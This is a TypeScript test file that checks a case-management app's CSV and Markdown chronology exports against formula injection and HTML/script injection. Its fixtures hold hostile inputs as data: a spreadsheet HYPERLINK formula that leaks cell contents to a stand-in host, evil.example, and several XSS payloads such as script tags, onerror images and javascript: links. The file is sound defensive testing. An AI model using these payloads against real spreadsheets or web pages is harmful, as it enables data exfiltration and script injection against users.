import { marked } from 'marked';
import { makeCase, makeDefender } from './factories/cases';
import { makeEvent } from './factories/entries';
import { bodyBytes, csvRows, rawBody } from './support/chronology-readers';
import { bearer, startTestApp, TestApp } from './support/test-app';

// What a caseworker types lands in files other programs open: a spreadsheet must show it as text,
// not run it as a formula; a Markdown renderer must show it as typed, not as HTML or a link.

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const FORMULAS = [HYPERLINK, '+1+1', '-2+3', '@SUM(A1:A9)', '\tcmd', '\rcmd'];

describe('exports neutralise what the caseworkers typed', () => {
  let t: TestApp;
  let caseId: string;

  const download = (format: string) =>
    t
      .http()
      .get(`/api/cases/${caseId}/chronology?format=${format}`)
      .set(bearer(t.users.viewer))
      .buffer(true)
      .parse(rawBody)
      .expect(200);

  beforeAll(async () => {
    t = await startTestApp({ now: '2026-01-15T09:00:00Z' });
    // An admin's words end every export too.
    await t
      .http()
      .put('/api/settings/organisation')
      .set(bearer(t.users.admin))
      .send({ name: '<img src=x onerror=alert(6)> **Org**', contact: '[contact](javascript:alert(7))' })
      .expect(200);
    const defender = await makeDefender(t.dataSource, {
      fullName: 'Khurram\r\n# Injected heading\n<b>Parvez</b>',
      bio: '<img src=x onerror=alert(2)>\n# Not a heading\n- not a list\n[bio link](javascript:alert(3))',
      profession: '**bold** <i>profession</i>',
    });
    const nia = await makeCase(t.dataSource, { defenderId: defender.id, title: HYPERLINK });
    caseId = nia.id;
    await makeEvent(t.dataSource, nia, {
      occurredOn: '2021-11-20',
      type: 'other',
      title: '@SUM(A1:A9)',
      description: '[link](javascript:alert(1)) and <script>alert(4)</script>',
      sources: [
        { citation: '+1+1 <a href="javascript:alert(5)">source</a>', url: 'https://example.org/a?b=1' },
      ],
    });
    for (const [index, formula] of FORMULAS.entries()) {
      await makeEvent(t.dataSource, nia, {
        occurredOn: `2021-11-2${index + 1}`,
        description: `${formula} typed as a description`,
      });
    }
  });

  afterAll(async () => {
    await t.close();
  });

  it('CSV: no cell starts like a formula, and each shows the text typed behind a single quote', async () => {
    const rows = csvRows(bodyBytes(await download('csv')));
    const cells = rows.flatMap((row) => Object.values(row));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(rows.map((row) => row.case)).toEqual(rows.map(() => `'${HYPERLINK}`));
    expect(rows.map((row) => row.label)).toContain(`'@SUM(A1:A9)`);
    expect(rows.map((row) => row.sources)).toContain(
      `'+1+1 <a href="javascript:alert(5)">source</a> https://example.org/a?b=1`,
    );
    const texts = rows.map((row) => row.text);
    for (const formula of ['=HYPERLINK', '+1+1', '-2+3', '@SUM(A1:A9)']) {
      expect(texts.some((text) => text.startsWith(`'${formula}`))).toBe(true);
    }
  });

  it('Markdown: rendered by marked, no element or link the text did not ask for, and the text as typed', async () => {
    const markdown = bodyBytes(await download('md')).toString('utf8');
    const html = marked.parse(markdown, { async: false, gfm: true });
    // The document's own structure: one h1 (the name, on one line), a heading per case, lists, paragraphs.
    expect(html.match(/<h1>/g)).toHaveLength(1);
    expect(html).not.toMatch(/<(img|script|b|i|a href="javascript)[\s>]/);
    // GFM renderers link a bare http(s) address typed in the text, showing it as typed; no other link.
    expect(html.match(/href="[^"]*"/g)?.filter((href) => !/^href="https?:\/\//.test(href))).toEqual([]);
    const text = html
      .replace(/<[^>]+>/g, '')
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>')
      .replace(/&quot;/g, '"')
      .replace(/&#39;/g, "'")
      .replace(/&amp;/g, '&');
    for (const typed of [
      'Khurram # Injected heading <b>Parvez</b>: chronology',
      '**bold** <i>profession</i>',
      '<img src=x onerror=alert(2)>',
      '# Not a heading',
      '- not a list',
      '[bio link](javascript:alert(3))',
      HYPERLINK,
      '[link](javascript:alert(1)) and <script>alert(4)</script>',
      '+1+1 <a href="javascript:alert(5)">source</a>',
      '<img src=x onerror=alert(6)> **Org** · [contact](javascript:alert(7))',
    ]) {
      expect(text).toContain(typed);
    }
  });
});
